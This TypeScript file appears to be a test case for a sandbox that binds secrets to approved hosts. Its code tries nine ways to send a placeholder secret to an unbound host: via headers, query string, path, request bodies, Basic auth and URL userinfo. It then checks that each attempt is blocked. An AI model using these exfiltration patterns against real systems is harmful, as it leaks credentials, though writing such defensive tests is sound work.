import type { Technique } from "../technique.ts";

/** Sends a placeholder to a host that it is not bound to, by every part of a request. */
export const technique: Technique = {
  kind: "exfiltration",
  code: `async (ctx) => {
  const key = ctx.secrets.KEY; const to = ctx.input.stranger + "/stranger"; const outcomes = [];
  for (const attempt of [() => ctx.fetch(to, { headers: { "x-key": key } }), () => ctx.fetch(to + "?k=" + key), () => ctx.fetch(to + "/" + key), () => ctx.fetch(to, { method: "POST", body: key }), () => ctx.fetch(to, { method: "POST", body: JSON.stringify({ key }) }), () => ctx.fetch(to, { headers: { authorization: "Basic " + btoa("user:" + key) } }), () => ctx.fetch(to, { method: "POST", body: new TextEncoder().encode(key) }), () => ctx.fetch(to.replace("http://", "http://" + key + "@")), () => ctx.fetch(to, { headers: { [key]: "1" } })]) try { outcomes.push((await attempt()).status); } catch (error) { outcomes.push(error.code ?? error.name); }
  return outcomes.includes("TENON_SECRET_HOST");
}`,
  ends: ["completed"],
  answer: true,
};
